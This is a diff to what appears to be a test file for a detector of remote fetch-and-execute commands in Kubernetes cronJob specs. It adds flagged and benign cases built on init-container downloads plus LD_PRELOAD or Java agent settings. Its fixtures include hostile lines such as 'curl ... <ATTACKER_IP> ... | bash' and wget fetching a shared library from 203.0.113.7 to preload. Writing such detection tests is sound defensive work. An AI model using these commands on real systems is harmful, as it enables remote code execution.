@@ -11,8 +11,23 @@ const of = (image: string, text: string) =>
   cronJob({ containers: [{ name: 'main', image, command: ['/bin/sh', '-c', text] }] });
 const OWN = 'https://raw.githubusercontent.com/acme/api/main/check.sh';
 
+/** An init container that brings a file to a volume, and one that runs the program of its image with a variable. */
+const loads = (fetch: string, name: string, value: string) => {
+  const volumeMounts = [{ name: 'lib', mountPath: '/lib1' }];
+  return cronJob({
+    volumes: [{ name: 'lib', emptyDir: {} }],
+    initContainers: [{ name: 'first', image: 'busybox', command: ['sh', '-c', fetch], volumeMounts }],
+    containers: [{ name: 'main', image: 'registry.example.com/api:2', env: [{ name, value }], volumeMounts }],
+  });
+};
+
 indicatorTable(commandRemoteFetchExecute, {
   fires: {
+    'a library that the program of an image is made to load': loads(
+      'wget -qO /lib1/z.so http://203.0.113.7/z.so',
+      'LD_PRELOAD',
+      '/lib1/z.so',
+    ),
     'an address that a reader is to fill in': script('curl -s http://<ATTACKER_IP>:8000/x.sh | bash'),
     'the same in small letters': script('wget -qO- "http://<your-server>/x" | sh'),
     'a program in a directory that the path of the shell was given': script(
@@ -269,6 +284,16 @@ indicatorTable(commandRemoteFetchExecute, {
     'a package that comes over ssh from one': script('scp a@203.0.113.7:a.rpm /tmp/a.rpm; rpm -i /tmp/a.rpm'),
   },
   staysSilent: {
+    'an agent for traces from the project that makes it': loads(
+      'wget -qO /lib1/agent.jar https://github.com/open-telemetry/opentelemetry-java-instrumentation/releases/latest/download/opentelemetry-javaagent.jar',
+      'JAVA_TOOL_OPTIONS',
+      '-javaagent:/lib1/agent.jar',
+    ),
+    'a library of the image beside a download': loads(
+      'wget -qO /lib1/rates.json https://rates.example.org/rates.json',
+      'LD_PRELOAD',
+      '/usr/lib/libjemalloc.so.2',
+    ),
     'a file that comes in, and one that goes out': script('sh -n <run.sh> /data/errors; sort <HOSTS> /data/sorted'),
     'a sentence that begins with the name of a file': runs(
       'python3',
